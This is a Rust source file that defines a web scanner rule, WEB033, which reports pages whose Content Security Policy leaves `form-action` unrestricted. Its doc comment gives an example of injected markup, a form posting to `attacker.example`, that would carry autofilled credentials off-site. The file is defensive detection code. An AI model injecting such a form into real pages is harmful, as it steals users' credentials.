//! WEB033: an injected form can post anywhere.

use super::ProbeContext;
use super::csp;
use crate::rule::declare_rule;

declare_rule! {
    /// ## What it does
    /// Reports a page with an enforced Content Security Policy in which no
    /// policy restricts `form-action` (it is missing, or allows `*`,
    /// `https:`, `http:` or any host). `form-action` does not fall back to
    /// `default-src`. Information (no grade penalty): the HTTP Observatory
    /// shows it without scoring it, and it matters less than the script
    /// directives — but it is the one directive that stops a form from
    /// sending what the user types to another site.
    ///
    /// ## Why is this bad?
    /// Markup injection without script execution (a strict `script-src`
    /// blocks the script, not the markup) can still add a
    /// `<form action="https://attacker.example/">`, or close an existing
    /// form's tag early and start a new one: the browser's password manager
    /// fills it in, and a click sends the credentials away.
    ///
    /// ## Example
    /// `Content-Security-Policy: default-src 'self'` (no `form-action`).
    ///
    /// Use instead: `Content-Security-Policy: default-src 'self'; form-action 'self'`.
    ///
    /// ## References
    /// - [MDN: CSP form-action](https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy/form-action)
    /// - [CSP Level 3: form-action](https://www.w3.org/TR/CSP3/#directive-form-action)
    pub(crate) static CSP_FORM_ACTION_MISSING = {
        code: "WEB033",
        name: "csp-form-action-missing",
        severity: Info,
        django_id: None,
    };
}

pub(crate) fn check(ctx: &ProbeContext) {
    let Some(page) = ctx.page() else { return };
    let policies = csp::enforced(page);
    if policies.is_empty() {
        return;
    }
    let Some(offending) = csp::open_in_all(&policies, &["form-action"], csp::allows_any_host)
    else {
        return;
    };
    let message = if offending.is_empty() {
        format!(
            "{} has no form-action (default-src does not cover it): an injected form can post to any site",
            csp::named(&policies)
        )
    } else {
        let named: Vec<String> = offending
            .iter()
            .map(|(d, e)| format!("`{e}` in {d}"))
            .collect();
        format!(
            "{} lets forms post to any host: {}",
            csp::named(&policies),
            named.join(", ")
        )
    };
    ctx.report(
        &CSP_FORM_ACTION_MISSING,
        ctx.at_csp(page),
        message,
        Some("add `form-action 'self'` (and the hosts forms legitimately post to)".into()),
    );
}
